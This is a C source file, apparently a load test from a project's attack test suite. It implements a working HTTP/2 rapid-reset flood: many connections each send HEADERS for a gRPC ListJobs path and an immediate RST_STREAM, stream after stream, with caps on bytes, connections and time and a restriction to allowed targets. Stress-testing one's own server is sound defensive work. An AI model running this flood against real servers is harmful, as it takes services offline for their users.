/* reset TARGET MEGABYTES CONNECTIONS [--compact] [--seconds MOST] [--from ADDRESS]
 *
 * HTTP/2 rapid reset without a token. Each connection sends HEADERS (POST /ddp.v1.Cluster/ListJobs) and an
 * immediate RST_STREAM, stream after stream, until MEGABYTES were sent in total, the server has closed every
 * connection, or MOST seconds (default 60) have passed. The server's data is read and dropped. A connection
 * that the server closes is not opened again. --compact: sends the path once for each connection and then its
 * index, so that a stream takes 32 bytes instead of about 120.
 *
 * Prints one JSON line at the end: bytes, streams, milliseconds, connections that the server closed, received
 * GOAWAYs and RST_STREAMs. Limits: 1,000 MB, 1,000 connections, 300 s, only the targets that target.h
 * allows. */
#include <errno.h>
#include <getopt.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <unistd.h>

#include "tests/attack/target.h"

#define PREFACE "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#define SETTINGS "\0\0\0\4\0\0\0\0\0"
#define PATH "/ddp.v1.Cluster/ListJobs"
#define LAST_STREAM 0x7ffffffd
#define OUT_SIZE 65536

enum frame_type { FRAME_HEADERS = 1, FRAME_RST_STREAM = 3, FRAME_GOAWAY = 7 };
enum { END_STREAM_AND_HEADERS = 5, ERROR_CANCEL = 8, FRAME_HEADER = 9 };

struct resetter {
    unsigned char out[OUT_SIZE];
    size_t first, last;
    uint32_t stream;
    bool path_sent;
    unsigned char head[FRAME_HEADER]; /* the header of the frame that is being received */
    size_t head_size, body_left;
    int fd;
};

struct resets {
    struct target target;
    bool compact;
    int64_t want, bytes, streams, closed, goaways, rsts;
    int open;
};

/* ---- sending */

static void reset_put(struct resetter *r, const void *bytes, size_t size)
{
    memcpy(r->out + r->last, bytes, size);
    r->last += size;
}

static void reset_frame(struct resetter *r, size_t size, enum frame_type type, int flags)
{
    unsigned char head[FRAME_HEADER] = {(unsigned char)(size >> 16),
                                        (unsigned char)(size >> 8),
                                        (unsigned char)size,
                                        (unsigned char)type,
                                        (unsigned char)flags,
                                        (unsigned char)(r->stream >> 24),
                                        (unsigned char)(r->stream >> 16),
                                        (unsigned char)(r->stream >> 8),
                                        (unsigned char)r->stream};

    reset_put(r, head, sizeof(head));
}

/* The header block (RFC 7541): 0x83 is :method POST, 0x86 is :scheme http, 0x04 a :path without indexing,
 * 0x44 a :path with indexing, and 0xbe refers to that one from then on. */
static void reset_headers(struct resetter *r, bool compact)
{
    static const char whole[] = "\x83\x86\x04\x18" PATH "\x01\x09"
                                "127.0.0.1"
                                "\x0f\x10\x10"
                                "application/grpc"
                                "\x00\x02"
                                "te"
                                "\x08"
                                "trailers";
    static const char first[] = "\x83\x86\x44\x18" PATH;
    static const char again[] = "\x83\x86\xbe";

    if (!compact) {
        reset_frame(r, sizeof(whole) - 1, FRAME_HEADERS, END_STREAM_AND_HEADERS);
        reset_put(r, whole, sizeof(whole) - 1);
    } else if (!r->path_sent) {
        reset_frame(r, sizeof(first) - 1, FRAME_HEADERS, END_STREAM_AND_HEADERS);
        reset_put(r, first, sizeof(first) - 1);
    } else {
        reset_frame(r, sizeof(again) - 1, FRAME_HEADERS, END_STREAM_AND_HEADERS);
        reset_put(r, again, sizeof(again) - 1);
    }
    r->path_sent = true;
}

static void reset_fill(struct resets *all, struct resetter *r)
{
    static const unsigned char cancel[] = {0, 0, 0, ERROR_CANCEL};

    r->first = r->last = 0;
    while (r->last + 256 < OUT_SIZE && r->stream <= LAST_STREAM) {
        reset_headers(r, all->compact);
        reset_frame(r, sizeof(cancel), FRAME_RST_STREAM, 0);
        reset_put(r, cancel, sizeof(cancel));
        r->stream += 2;
        all->streams++;
    }
}

/* ---- receiving */

static void reset_count_frame(struct resets *all, struct resetter *r)
{
    r->body_left = (size_t)r->head[0] << 16 | (size_t)r->head[1] << 8 | r->head[2];
    r->head_size = 0;
    all->goaways += r->head[3] == FRAME_GOAWAY;
    all->rsts += r->head[3] == FRAME_RST_STREAM;
}

static void reset_parse(struct resets *all, struct resetter *r, const unsigned char *bytes, size_t size)
{
    while (size) {
        if (r->body_left) {
            size_t skip = size < r->body_left ? size : r->body_left;

            r->body_left -= skip;
            bytes += skip;
            size -= skip;
            continue;
        }
        r->head[r->head_size++] = *bytes++;
        size--;
        if (r->head_size == FRAME_HEADER)
            reset_count_frame(all, r);
    }
}

static void reset_end(struct resets *all, struct resetter *r)
{
    close(r->fd);
    r->fd = -1;
    all->closed++;
    all->open--;
}

static void reset_receive(struct resets *all, struct resetter *r)
{
    unsigned char bytes[16384];
    ssize_t got = recv(r->fd, bytes, sizeof(bytes), 0);

    if (got > 0)
        reset_parse(all, r, bytes, (size_t)got);
    else if (got == 0 || errno != EAGAIN)
        reset_end(all, r);
}

static void reset_send(struct resets *all, struct resetter *r)
{
    ssize_t sent;

    if (r->first == r->last)
        reset_fill(all, r);
    sent = send(r->fd, r->out + r->first, r->last - r->first, MSG_NOSIGNAL);
    if (sent > 0) {
        r->first += (size_t)sent;
        all->bytes += sent;
    } else if (sent < 0 && errno != EAGAIN) {
        reset_end(all, r);
    }
}

/* ---- the attack */

static void reset_open(struct resets *all, struct resetter *r)
{
    r->stream = 1;
    reset_put(r, PREFACE SETTINGS, sizeof(PREFACE SETTINGS) - 1);
    r->fd = target_connect(&all->target);
    if (r->fd < 0)
        all->closed++;
    else
        all->open++;
}

static void reset_run(struct resets *all, struct resetter *r, int count, int64_t most_ms)
{
    struct pollfd *fds = calloc((size_t)count, sizeof(*fds));
    int64_t began = target_now_ms(), now = began;

    if (!fds)
        exit(1);
    for (int i = 0; i < count; i++)
        reset_open(all, &r[i]);
    /* poll waits at most 100 ms, so that the loop notices the time limit even if nothing is sent or received */
    while (all->open && all->bytes < all->want && (now = target_now_ms()) < began + most_ms) {
        for (int i = 0; i < count; i++)
            fds[i] = (struct pollfd){.fd = r[i].fd, .events = POLLIN | POLLOUT};
        poll(fds, (nfds_t)count, 100);
        for (int i = 0; i < count; i++) {
            if (r[i].fd >= 0 && fds[i].revents & (POLLIN | POLLHUP | POLLERR))
                reset_receive(all, &r[i]);
            if (r[i].fd >= 0 && fds[i].revents & POLLOUT)
                reset_send(all, &r[i]);
        }
    }
    free(fds);
    printf("{\"bytes\": %lld, \"streams\": %lld, \"ms\": %lld, \"closed_by_peer\": %lld, \"goaways\": %lld, "
           "\"rst_streams\": %lld}\n",
           (long long)all->bytes, (long long)all->streams, (long long)(now - began), (long long)all->closed,
           (long long)all->goaways, (long long)all->rsts);
}

static void reset_usage(void)
{
    fprintf(
        stderr,
        "usage: reset ADDRESS:PORT MEGABYTES CONNECTIONS [--compact] [--seconds MOST] [--from ADDRESS]\n");
    exit(2);
}

/* Parses a number such as "5.8", in megabytes of a million bytes. */
static int64_t reset_megabytes(const char *text)
{
    char *end;
    double value = strtod(text, &end);

    if (end == text || *end || !(value > 0 && value <= 1000)) {
        fprintf(stderr, "MEGABYTES: expected a number up to 1000, got '%s'\n", text);
        exit(2);
    }
    return (int64_t)(value * 1e6);
}

int main(int argc, char **argv)
{
    static const struct option options[] = {{"compact", no_argument, NULL, 'c'},
                                            {"seconds", required_argument, NULL, 's'},
                                            {"from", required_argument, NULL, 'f'},
                                            {0}};
    struct resets all = {0};
    struct resetter *resetters;
    int64_t most_ms = 60000;
    const char *from = NULL;
    int option, count;

    while ((option = getopt_long(argc, argv, "", options, NULL)) != -1) {
        if (option == 'c')
            all.compact = true;
        else if (option == 's')
            most_ms = 1000 * target_number("--seconds", optarg, 1, 300);
        else if (option == 'f')
            from = optarg;
        else
            reset_usage();
    }
    if (argc - optind != 3)
        reset_usage();
    target_parse(&all.target, argv[optind], from);
    all.want = reset_megabytes(argv[optind + 1]);
    count = (int)target_number("CONNECTIONS", argv[optind + 2], 1, 1000);
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    target_descriptors(count + 16);
    resetters = calloc((size_t)count, sizeof(*resetters));
    if (!resetters)
        return 1;
    reset_run(&all, resetters, count, most_ms);
    free(resetters);
    return 0;
}
